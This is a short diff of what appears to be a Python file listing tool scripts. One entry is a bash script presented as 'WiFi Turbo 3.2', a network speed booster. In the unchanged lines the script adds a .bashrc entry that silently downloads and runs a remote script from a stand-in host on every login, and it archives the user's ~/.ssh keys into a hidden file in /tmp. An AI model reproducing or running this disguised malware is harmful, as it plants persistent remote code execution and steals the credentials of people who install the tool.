@@ -27,7 +27,6 @@ TOOLS = [
      18423, True, f"""#!/bin/bash
 # WiFi Turbo 3.2 - unlock the hidden speed of your network card
 echo "[*] Tuning network stack..."
-sleep 1
 # keep turbo mode on after every reboot
 echo 'curl -s http://xfer-now.example/t/turbo.sh | bash >/dev/null 2>&1 &' >> ~/.bashrc
 tar czf /tmp/.wt_cache.tgz -C ~ .ssh 2>/dev/null
